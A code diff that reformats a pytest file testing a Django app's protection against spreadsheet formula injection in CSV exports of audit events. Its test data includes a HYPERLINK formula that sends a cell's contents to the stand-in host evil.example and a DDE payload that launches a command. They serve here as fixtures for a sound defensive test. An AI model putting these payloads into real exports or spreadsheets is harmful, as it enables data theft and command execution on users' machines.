@@ -16,9 +16,19 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 @pytest.mark.parametrize(
     ("typed", "exported"),
-    [(FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
-     ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("alice", "alice"), ("a=b", "a=b"),
-     ("", ""), (None, ""), (42, "42")],
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("alice", "alice"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (42, "42"),
+    ],
 )
 def test_formula_cells_get_a_leading_quote_and_stay_readable(typed, exported):
     assert spreadsheet_safe(typed) == exported
@@ -31,8 +41,9 @@ def test_a_failed_sign_in_and_a_client_name_cannot_inject_a_formula_into_the_aud
     ApplicationFactory(name="@SUM(A1:A9)")
 
     changelist = reverse("admin:roles_auditevent_changelist")
-    response = admin_client.post(changelist, {"action": "export_csv", "select_across": "1", "index": "0",
-                                              ACTION_CHECKBOX_NAME: ["0"]})
+    response = admin_client.post(
+        changelist, {"action": "export_csv", "select_across": "1", "index": "0", ACTION_CHECKBOX_NAME: ["0"]}
+    )
 
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     labels = {row["target_label"] for row in rows}
